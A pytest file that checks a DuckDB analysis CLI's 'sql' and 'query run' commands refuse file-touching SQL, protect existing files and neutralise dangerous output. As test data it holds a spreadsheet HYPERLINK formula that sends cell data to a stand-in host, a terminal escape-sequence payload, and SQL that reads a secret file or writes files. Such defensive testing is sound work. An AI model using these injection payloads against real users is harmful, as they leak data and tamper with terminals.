"""`analyzer sql` and `query run`: files of others, data of one's own, results in files."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import duckdb
import pytest
from click.testing import CliRunner, Result
from large_snapshot import write_large

from analyzer.cli import main

FORMULA = '=HYPERLINK("http://x/?"&A1,"y")'
NOISE = "D\x1b]0;owned\x07\x1b[2JAI"


@pytest.fixture(scope="module")
def original(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    path = tmp_path_factory.mktemp("sql") / "scan.duckdb"
    write_large(path, 12, stress=False)
    return path.read_bytes()


@pytest.fixture
def db(original: bytes, tmp_path: Path) -> Path:
    path = tmp_path / "scan.duckdb"
    path.write_bytes(original)
    return path


def invoke(*words: object) -> Result:
    return CliRunner().invoke(main, list(map(str, words)))


@pytest.mark.parametrize(
    "statement",
    ["SELECT content FROM read_text('{0}/secret')", "COPY (SELECT 1) TO '{0}/written'",
     "ATTACH '{0}/written' AS other", "DELETE FROM margin"],
)  # fmt: skip
def test_sql_that_touches_the_machine_is_one_line_and_exit_2(db: Path, statement: str) -> None:
    (db.parent / "secret").write_text("xyzzy")
    result = invoke("sql", statement.format(db.parent), "--db", db)
    assert (result.exit_code, result.stdout) == (2, "")
    assert len(result.stderr.splitlines()) == 1
    assert "xyzzy" not in result.stderr
    assert not (db.parent / "written").exists()


def test_a_view_that_reads_a_local_file_is_not_obeyed(db: Path) -> None:
    secret = db.parent / "secret"
    secret.write_text("xyzzy")
    with duckdb.connect(str(db)) as connection:
        connection.execute("DROP VIEW v_margin")
        connection.execute(f"CREATE VIEW v_margin AS SELECT content FROM read_text('{secret}')")
    for words in (["sql", "FROM v_margin"], ["query", "run", "nearest_to_liquidation"]):
        result = invoke(*words, "--db", db, "--format", "csv")
        assert result.exit_code == 0
        assert "account_id" in result.stdout.splitlines()[0]
        assert "xyzzy" not in result.output


def test_data_of_ones_own_comes_in_and_results_go_to_files(db: Path, tmp_path: Path) -> None:
    labels, out = tmp_path / "labels.csv", tmp_path / "out.json"
    labels.write_text("verdict,label\nhealthy,fine\n")
    words = ("sql", "SELECT DISTINCT label FROM margin JOIN labels USING (verdict)", "--db", db,
             "--with", f"labels={labels}", "--format", f"json={out}")  # fmt: skip
    again = [invoke(*words), invoke(*words)]
    assert [result.exit_code for result in again] == [0, 0]
    assert '"label": "fine"' in out.read_text()
    assert again[0].stderr == f"{out} written\n"


@pytest.mark.parametrize(
    "words",
    [["--with", "x"], ["--with", "=f"], ["--with", "x=none.csv"], ["--with", "margin={db}"],
     ["--format", "csv={db}"], ["--with", "x={thesis}", "--format", "csv={thesis}"]],
)  # fmt: skip
def test_what_cannot_be_meant_is_refused_and_nothing_is_touched(
    db: Path, tmp_path: Path, words: list[str]
) -> None:
    thesis, before = tmp_path / "thesis.txt", db.read_bytes()
    thesis.write_text("years of work\n")
    result = invoke(
        "sql", "SELECT 1", "--db", db, *(word.format(db=db, thesis=thesis) for word in words)
    )
    assert (result.exit_code, result.stdout) == (2, "")
    assert len(result.stderr.splitlines()) == 1
    assert (thesis.read_text(), db.read_bytes()) == ("years of work\n", before)


def test_a_symbol_runs_neither_in_a_spreadsheet_nor_on_a_screen(db: Path) -> None:
    with duckdb.connect(str(db)) as connection:
        connection.execute("UPDATE prices SET symbol = ? WHERE rowid % 2 = 0", [FORMULA])
        connection.execute("UPDATE prices SET symbol = ? WHERE rowid % 2 = 1", [NOISE])
    for form in ("table", "csv", "markdown"):
        result = invoke("sql", "SELECT symbol FROM prices", "--db", db, "--format", form)
        assert result.exit_code == 0
        assert all(c.isprintable() or c == "\n" for c in result.stdout)
    shown = invoke("sql", "SELECT symbol FROM prices", "--db", db, "--format", "csv").stdout
    cells = {row[0] for row in csv.reader(io.StringIO(shown))}
    assert "'" + FORMULA in cells
    assert FORMULA not in cells


@pytest.mark.parametrize(
    ("words", "line"),
    [
        (["-p", "limit=5", "-p", "limit=6"], "'--param': limit is given twice"),
        (["-p", "limit"], "'limit' is not NAME=VALUE"),
        (["-p", "=5"], "'=5' is not NAME=VALUE"),
        (["--with", "a={db}", "--with", "a={db}"], "'--with': a is given twice"),
        (["--with", "a="], "'a=' is not NAME=FILE"),
    ],
)
def test_what_is_named_twice_or_not_at_all_is_refused(
    db: Path, words: list[str], line: str
) -> None:
    named = [word.format(db=db) for word in words]
    result = invoke("query", "run", "nearest_to_liquidation", "--db", db, *named)
    assert (result.exit_code, result.stdout) == (2, "")
    [said] = result.stderr.splitlines()
    assert line in said


@pytest.mark.parametrize(
    ("words", "line"),
    [
        (["-f", "/dev/zero"], "/dev/zero cannot be read: it is longer than 16 MB of SQL"),
        (["-f", "{0}"], "cannot be read: Is a directory"),
        (["-f", "{0}/none.sql"], "none.sql cannot be read: No such file or directory"),
        (["SELECT 1", "--with", "a={0}/empty.csv"], "empty.csv is empty: it holds no table"),
        (["SELECT 1", "--with", "a=/dev/zero"], "it is no regular file"),
    ],
)
def test_what_holds_no_text_or_no_table_is_said_and_not_waited_for(
    db: Path, words: list[str], line: str
) -> None:
    (db.parent / "empty.csv").touch()
    result = invoke("sql", *(word.format(db.parent) for word in words), "--db", db)
    assert (result.exit_code, result.stdout) == (2, "")
    [said] = result.stderr.splitlines()
    assert line in said


def test_a_list_of_one_column_is_replaced_like_any_other(db: Path, tmp_path: Path) -> None:
    words = ("sql", "SELECT 1 AS a", "--db", db, "--format", f"csv={tmp_path / 'one.csv'}")
    assert [invoke(*words).exit_code for _ in range(2)] == [0, 0]
